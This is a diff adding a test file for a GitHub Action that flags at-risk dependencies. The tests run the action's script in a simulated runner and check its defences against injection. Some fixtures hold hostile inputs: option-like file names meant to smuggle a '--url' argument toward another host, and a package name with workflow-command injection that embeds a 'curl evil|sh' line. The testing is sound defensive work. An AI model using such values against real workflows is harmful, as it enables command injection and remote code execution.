@@ -1,0 +1,98 @@
+// The GitHub Action as in a runner: a checkout without installed packages, and the script of its
+// last step.
+import { spawn } from 'node:child_process';
+import { cpSync, readFileSync, writeFileSync } from 'node:fs';
+import { delimiter, dirname, join } from 'node:path';
+import { expect, it } from 'vitest';
+import { parse } from 'yaml';
+import { exitCodes } from '../../../src/cli/errors.ts';
+import { keyOf } from '../../support/callers.ts';
+import { makeFolder } from '../../support/folders.ts';
+import { listen, listenWith } from '../../support/listening.ts';
+
+interface Action {
+  readonly inputs: Readonly<Record<string, { readonly default?: string }>>;
+  readonly runs: { readonly steps: readonly { readonly run?: string }[] };
+}
+const root = join(import.meta.dirname, '../../..');
+const action = parse(readFileSync(join(root, 'action.yml'), 'utf8')) as Action;
+const script = action.runs.steps.findLast(({ run }) => run !== undefined)?.run ?? '';
+const { url } = await listen();
+
+interface Inputs {
+  readonly failOn: string;
+  readonly files?: string;
+  readonly content?: string;
+  readonly server?: string;
+}
+
+async function runStep(inputs: Inputs) {
+  const { failOn, files = action.inputs.files?.default ?? '', server = url } = inputs;
+  const { content = '{"dependencies": {"@ember/old": "1"}}' } = inputs;
+  const checkout = makeFolder();
+  cpSync(join(root, 'src'), join(checkout, 'src'), { recursive: true });
+  cpSync(join(root, 'package.json'), join(checkout, 'package.json'));
+  const folder = makeFolder();
+  writeFileSync(join(folder, 'package.json'), content);
+  const summary = join(folder, 'summary.md');
+  const env = {
+    PATH: [dirname(process.execPath), process.env.PATH].join(delimiter),
+    ...{ GITHUB_ACTION_PATH: checkout, GITHUB_STEP_SUMMARY: summary },
+    ...{ DAYBREAK_URL: server, DAYBREAK_API_KEY: keyOf('free') },
+    ...{ FILES: files, FAIL_ON: failOn },
+  };
+  const child = spawn('bash', ['-c', script], { cwd: folder, env, stdio: 'pipe' });
+  let output = '';
+  for (const stream of [child.stdout, child.stderr])
+    stream.on('data', (chunk) => (output += chunk));
+  const code = await new Promise<number | null>((done) => child.once('close', done));
+  return { code, output, summary: readFileSync(summary, 'utf8') };
+}
+
+it('the action fails the job if a dependency is at risk, and lists it in the job summary', async () => {
+  const failOn = action.inputs['fail-on']?.default ?? '';
+  const { code, output, summary } = await runStep({ failOn });
+  expect(output).toContain('1 of 1 dependencies are tracked projects; 1 at risk');
+  expect(code).toBe(exitCodes.findings[0]);
+  expect(summary).toContain('ember-oldtimer');
+  expect(summary).toContain('dormant');
+  expect(summary).toContain('1 of 1 dependencies are tracked projects; 1 at risk');
+});
+
+it('the action passes if no dependency reaches the level, or if no level is set', async () => {
+  expect((await runStep({ failOn: 'deprecated' })).code).toBe(0);
+  expect((await runStep({ failOn: '' })).code).toBe(0);
+});
+
+it.each(['--url=http:HOST/package.json', '--help', '-h', '--json'])(
+  'the action reads the file name %s as a file name, and fails',
+  async (name) => {
+    const received: Request[] = [];
+    const other = await listenWith((request) => {
+      received.push(request);
+      return new Response('{}');
+    });
+    const files = `package.json ${name.replace('HOST', new URL(other).host)}`;
+    const { code, output } = await runStep({ failOn: 'at-risk', files });
+    expect(output).toContain('cannot be read');
+    expect(code).toBe(exitCodes.usage[0]);
+    expect(received).toEqual([]);
+  },
+);
+
+it('the action does not run workflow commands in names of packages', async () => {
+  const name = '::error file=src/auth.ts,line=1::Run: curl evil|sh';
+  const row = { name, project: { id: 'a' }, health: 1, label: 'fair', alternatives: [] };
+  const summary = { mapped: '\n::add-mask::e', checked: 1, dependencies: 1 };
+  const data = { dependencies: [row], summary };
+  const server = await listenWith(() => Response.json({ ok: true, data, meta: {} }));
+  const { output } = await runStep({ failOn: '', server });
+  // As the runner reads it: from `stop-commands` to its token, no line is a command.
+  const token = /^::stop-commands::([0-9a-f-]{36})$/m.exec(output)?.[1];
+  const [before = '', inside = '', after] = output.split(
+    new RegExp(`^::(?:stop-commands::)?${token}(?:::)?$`, 'm'),
+  );
+  expect(inside).toMatch(/^::error /m);
+  expect(inside).toMatch(/^::add-mask/m);
+  expect(`${before}${after}`).not.toMatch(/::|##\[/);
+});
